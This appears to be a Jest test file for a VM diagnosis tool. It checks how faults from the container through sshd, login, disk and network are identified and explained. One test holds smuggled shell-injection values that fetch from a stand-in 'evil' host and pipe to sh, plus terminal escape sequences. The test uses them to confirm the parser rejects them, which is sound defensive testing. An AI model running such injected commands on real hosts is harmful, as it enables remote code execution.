import { expect, test } from "@jest/globals";
import type { RungName } from "../../../provider/diagnose/ladder";
import { readState } from "../../../provider/diagnose/report";
import { MayflyError } from "../../../provider/errors";
import { readConsole } from "../../../provider/machines/inspection";
import { explained } from "../../../provider/resources/diagnosed";
import {
  diagnosis,
  FINGERPRINT,
  host,
  login,
  MAC,
  network,
  refused,
  segment,
  silent,
  state,
  type Change,
} from "../../support/patient";

// The ladder's logic, by facts as data: one healthy machine, and what is different in a broken one.

test("a machine that is well: all sources are looked at once, all rungs are right", async () => {
  const { rungs, isHealthy, firstBroken, seen } = await diagnosis();
  expect(rungs.map(({ state: verdict }) => verdict)).toEqual(rungs.map(() => "ok"));
  expect({ isHealthy, firstBroken, seen }).toEqual({
    ...{ isHealthy: true, firstBroken: undefined, seen: ["host", "guest", "port", "login"] },
  });
});

const killed = "[   98.123456] Out of memory: Killed process 300 (tail) total-vm:1kB, anon-rss:1kB";
const panic = readConsole("mayfly: starting /sbin/init\nKernel panic - not syncing: Attempted to kill init!\n");
const thrashing = readConsole(`mayfly: starting /sbin/init\n${killed}\n`);
const mute = { report: undefined, banner: false };

test.each<[string, Change, RungName, RegExp]>([
  ["no container", { host: { ...host, container: undefined } }, "container", /was removed/],
  ["paused", { host: { ...host, container: { status: "paused", exitCode: 0 } } }, "container", /has paused/],
  ["ended", { host: { ...host, container: { status: "exited", exitCode: 137 } } }, "container", /ended, or was killed/],
  ["shut down", { host: { ...host, container: { status: "exited", exitCode: 0 } } }, "container", /has shut down/],
  ["stopped", { host: { ...host, qemu: { ...host.qemu, processState: "T" } } }, "qemu", /by a signal/],
  ["paused by QMP", { host: { ...host, qemu: { ...host.qemu, status: "paused" } } }, "qemu", /control socket/],
  ["io-error", { host: { ...host, qemu: { ...host.qemu, status: "io-error" } } }, "qemu", /does not run the guest/],
  ["panic", { host: { ...host, console: panic }, guest: mute }, "kernel", /panicked \(Attempted to kill init!\)/],
  [
    "no kernel",
    { host: { ...host, console: readConsole("") }, guest: mute },
    "kernel",
    /not started its first program/,
  ],
  [
    "out of memory",
    { host: { ...host, console: thrashing }, guest: mute },
    "init",
    /out of memory, its kernel killed tail/,
  ],
  ["hangs", { guest: mute }, "init", /the guest hangs/],
  [
    "cannot boot",
    { host: { ...host, console: readConsole("mayfly: cannot boot: no sudo\n") }, guest: mute },
    ...(["init", /^the boot has ended: no sudo/] as const),
  ],
  ["emergency", { guest: state({ systemd: ["maintenance"] }) }, "init", /emergency mode/],
  ["frozen", { guest: state({ systemd: [""] }) }, "init", /hangs: it does not answer/],
  [
    "still starting",
    { guest: state({ systemd: ["starting"], job: ["12 slow.service start running"], door: ["closed"] }) },
    ...(["init", /still starting, and waits for what is named/] as const),
  ],
  ["no sshd", { guest: state({ door: ["closed"] }) }, "sshd", /^sshd does not run/],
  ["bad rules", { guest: state({ door: ["closed"], "sshd-test": ["line 3: Bad"] }) }, "sshd", /start: line 3: Bad/],
  ["sshd stopped", { guest: state({ sshd: ["T sshd"] }) }, "sshd", /stopped by a signal/],
  ["refused", { port: { ...silent, ended: "ECONNREFUSED" } }, "port", /nothing of this host leads/],
  ["card down", { port: { ...silent, network: network({ "card-flags": ["0x1002"] }) } }, "port", /eth0 is down/],
  ["no address", { port: { ...silent, network: network({ "card-address": [] }) } }, "port", /has no address/],
  ["dropped", { port: { ...silent, network: network() } }, "port", /a firewall or a route in the guest drops/],
  [
    "dropped by a rule",
    { port: { ...silent, network: network({ firewall: ["tcp dport 64022 drop"] }) } },
    ...(["port", /by the rule "tcp dport 64022 drop", drops/] as const),
  ],
  [
    "rejected",
    {
      port: {
        ...silent,
        network: network({ snmp: ["Icmp: OutDestUnreachs", "Icmp: 2", "Tcp: PassiveOpens", "Tcp: 5"] }),
      },
    },
    ...(["port", /rejects \(REJECT\)/] as const),
  ],
  ["reset", { port: { ...silent, ended: "closed", network: network() } }, "port", /rejects \(REJECT\)/],
  [
    "reset, by a guest that has not said whether its sshd listens",
    { guest: state({ door: [] }), port: { ...silent, ended: "closed", network: network() } },
    ...(["port", /lets nobody in, and does not say whether its SSH server listens/] as const),
  ],
  [
    "other rules",
    { port: { ...silent, network: network({ firewall: ["policy drop;"] }) } },
    ...(["port", /whose rules are named, drops/] as const),
  ],
  [
    "sshd hangs up",
    {
      port: { ...silent, ended: "closed", network: network({ snmp: ["Tcp: PassiveOpens OutRsts", "Tcp: 6 0"] }) },
    },
    ...(["port", /takes the connection, and sshd ends it at once/] as const),
  ],
  [
    "no memory for sshd",
    {
      guest: state({ "out-of-memory": [killed] }),
      port: { ...silent, network: network({ connection: ["0: 0F00:FA16 0200:1234 01 0"] }) },
    },
    ...(["port", /does not say a word; the guest ran out of memory/] as const),
  ],
  [
    "mute sshd",
    { port: { ...silent, network: network({ connection: ["0: 0F00:FA16 0200:1234 01 0"] }) } },
    ...(["port", /does not say a word/] as const),
  ],
  ["another server", { login: { ...login, reached: "hostKey", seen: "it shows a" } }, "host-key", /another SSH server/],
  [
    "other host key",
    { login: { ...login, reached: "hostKey", seen: "it shows SHA256:b", ownHostKey: "SHA256:b" } },
    ...(["host-key", /has changed the guest's host key/] as const),
  ],
  ["hangs up", { login: { ...login, reached: "handshake", seen: "ECONNRESET" } }, "host-key", /before it has proved/],
  ["no user", { guest: state({ account: [] }), login: refused("") }, "key", /no user root/],
  ["no shell", { guest: state({ "shell-runs": [] }), login: refused("") }, "key", /login shell of root, \/bin\/bash/],
  ["mode", { guest: state({ path: ["666 0 /k/keys/root"] }), login: refused("") }, "key", /its mode is 666/],
  [
    "folder's mode",
    { guest: state({ path: ["644 0 /k/keys/root", "777 0 /k"] }), login: refused("") },
    "key",
    /from \/k: /,
  ],
  ["owner", { guest: state({ path: ["644 12 /k/keys/root"] }), login: refused("") }, "key", /belongs to the user 12/],
  ["no file", { guest: state({ path: ["755 0 /"] }), login: refused("") }, "key", /no file with keys/],
  ["other key", { login: refused(`tried the key ${FINGERPRINT}`, ["SHA256:other"]) }, "key", /does not hold ours/],
  ["else", { login: refused(`tried the key ${FINGERPRINT}`, [FINGERPRINT]) }, "key", /: Failed publickey for root$/],
  [
    "nobody but root",
    { guest: state({ account: ["1000:/bin/sh"], nologin: ["/run/nologin"] }), login: refused("") },
    ...(["key", /nobody but root may log in/] as const),
  ],
  [
    "nologin",
    { guest: state({ account: ["0:/usr/sbin/nologin"] }), login: { ...login, reached: "session", seen: "" } },
    ...(["session", /ends at once/] as const),
  ],
  [
    "no memory for a session",
    { guest: state({ "out-of-memory": [killed] }), login: { ...login, reached: "session", seen: "" } },
    ...(["session", /no command runs: the guest ran out of memory/] as const),
  ],
  ["load", { guest: state({ load: ["90.00 40.0 20.0 90/99 1"] }) }, "load", /far more processes/],
  ["memory", { guest: state({ "memory-available": ["1000 kB"] }) }, "memory", /hardly any memory/],
  ["killed", { guest: state({ "out-of-memory": [killed] }) }, "memory", /killed tail \(pid 300\)/],
  ["disk", { guest: state({ disk: ["/ 4096 200000 0 50000 49000"] }) }, "disk", /^\/ is full$/],
  ["clock ahead", { guest: state({ clock: ["1000070"] }) }, "clock", /clock is wrong/],
  ["clock behind", { guest: state({ clock: ["999940"] }) }, "clock", /clock is wrong/],
  ["no switch", { segments: [{ ...segment, isSwitched: false }] }, "networks", /carries nothing/],
  ["no network", { segments: [{ ...segment, exists: false, isSwitched: false }] }, "networks", /network of it is gone/],
  ["a network's card gone", { guest: state({ segment: [] }) }, "networks", /card in lan-1 is gone/],
  [
    "a network's card down",
    { guest: state({ segment: [`${MAC} eth1 0x1002 10.80.0.7/24`] }) },
    ...(["networks", /card in lan-1 is down/] as const),
  ],
  [
    "no address in a network",
    { guest: state({ segment: [`${MAC} eth1 0x1003`] }) },
    ...(["networks", /not have its address 10\.80\.0\.7 in lan-1/] as const),
  ],
  ["inodes", { guest: state({ disk: ["/ 4096 200000 9999 50000 0"] }) }, "disk", /as many files as it can/],
])("%s", async (_, change, rung, cause) => {
  const { firstBroken, isHealthy } = await diagnosis(change);
  expect(firstBroken).toMatchObject({ name: rung, cause: expect.stringMatching(cause) });
  expect(firstBroken?.remedy).not.toBe("");
  expect(isHealthy).toBe(false);
});

test("a bridge that has a card's hardware address, and the address that goes with it, may stand for the card", async () => {
  const bridged = [`${MAC} eth1 0x1003`, `${MAC} lan0 0x1003 10.80.0.7/24`, `${MAC} vmbr0 0x1003`];
  expect(await diagnosis({ guest: state({ segment: bridged }) })).toMatchObject({ isHealthy: true });
});

test("behind the first broken rung nothing is looked at, but what is known already is judged", async () => {
  const full = state({ door: ["closed"], disk: ["/ 4096 200000 0 50000 49000"] });
  const { firstBroken, rungs, seen } = await diagnosis({ guest: full });
  expect(seen).toEqual(["host", "guest"]);
  expect(firstBroken?.name).toBe("sshd");
  const verdict = (name: RungName) => rungs.find((rung) => rung.name === name)?.state;
  expect([verdict("port"), verdict("session"), verdict("disk")]).toEqual(["unknown", "unknown", "broken"]);
});

test("what a program killed long ago, or a boot before this one, tells nothing any more", async () => {
  const long = state({ uptime: ["4000.0 1.0"], "out-of-memory": [killed] });
  const rebooted = readConsole("Kernel panic - not syncing: x\nmayfly: starting /sbin/init\n");
  expect(await diagnosis({ guest: long, host: { ...host, console: rebooted } })).toMatchObject({ isHealthy: true });
});

test("of a panic the line that counts is shown, however long its stack is", async () => {
  const stack = Array.from({ length: 40 }, (_, index) => ` frame_${String(index)}+0x1/0x2`);
  const long = readConsole(["Kernel panic - not syncing: oops", "Call Trace:", ...stack, ""].join("\n"));
  const { firstBroken } = await diagnosis({ host: { ...host, console: long }, guest: mute });
  expect(firstBroken).toMatchObject({
    ...{ name: "kernel", cause: expect.stringMatching(/\(oops\)$/) },
    seen: expect.stringMatching(/^Kernel panic - not syncing: oops\n…\n[^]* frame_39/),
  });
});

test("a machine whose agent is silent but whose sshd answers is judged by that", async () => {
  const { rungs, isHealthy } = await diagnosis({ guest: { report: undefined, banner: true } });
  expect(isHealthy).toBe(true);
  expect(rungs.filter(({ state: verdict }) => verdict === "unknown").map(({ name }) => name)).toEqual([
    ...["init", "sshd", "load", "memory", "disk", "clock", "networks"],
  ]);
});

test("a guest that was too slow to tell all is judged by what it told", async () => {
  const report = readState(
    new Map([
      ["uptime", ["5.0 1.0"]],
      ["init", ["systemd"]],
      ["load", ["50.0 20.0"]],
    ]),
  );
  const { firstBroken, rungs } = await diagnosis({ guest: { report } });
  expect(firstBroken?.name).toBe("load");
  expect(rungs.find(({ name }) => name === "init")).toMatchObject({
    state: "unknown",
    seen: expect.stringMatching(/too slow/),
  });
});

test("what a guest says cannot move the reader's cursor", () => {
  const { report } = state({ "host-key": ["\u001b[2Jssh-ed25519\u0007 \u009bAAAA"], disk: ["no disk", "x y z"] });
  expect(report.sshd.hostKey).toBe("[2Jssh-ed25519   AAAA");
  expect(report.disks).toEqual([]);
  // What is told to be full is named in a command for the host.
  expect(state({ segment: [`${MAC} e;curl\${IFS}evil|sh 0x1003`] }).report.cards).toEqual([]);
  expect(state({ disk: ["/tmp;curl${IFS}evil|sh 4096 200000 0 50000 0"] }).report.disks).toEqual([]);
});

test.each<[string, unknown]>([
  ["removed", undefined],
  ["killed", { status: "exited", exitCode: 137 }],
])("a machine of the command's whose container was %s is started again, not removed", async (_, container) => {
  const { rungs, firstBroken } = await diagnosis({ host: { ...host, container, qemu: undefined } });
  expect(firstBroken?.remedy).toBe("mayfly start web");
  expect(rungs.filter(({ state }) => state === "broken")).toHaveLength(1); // qemu's end is no fault of its own
});

test("an error tells what was found, and what to do", async () => {
  const error = new MayflyError("CONNECT_FAILED", "cannot connect", { evidence: "ECONNRESET", remedy: "try again" });
  const broken = explained(error, await diagnosis({ guest: state({ door: ["closed"] }) }));
  expect(broken.message).toMatch(
    /^cannot connect\nECONNRESET\ndiagnosis: sshd: sshd does not run.*\nTo fix: look again/,
  );
  expect(broken.code).toBe("CONNECT_FAILED");
  const beside = explained(error, await diagnosis({ guest: state({ clock: ["5"] }) }));
  expect(beside.evidence).toBe("ECONNRESET\ndiagnosis: clock: the guest's clock is wrong");
  expect(beside.remedy).toBe("try again"); // the clock is not why
  const well = explained(error, await diagnosis());
  expect(well.evidence).toBe("ECONNRESET\ndiagnosis: by now nothing of the VM is broken");
  expect(well.remedy).toBe("try again");
});
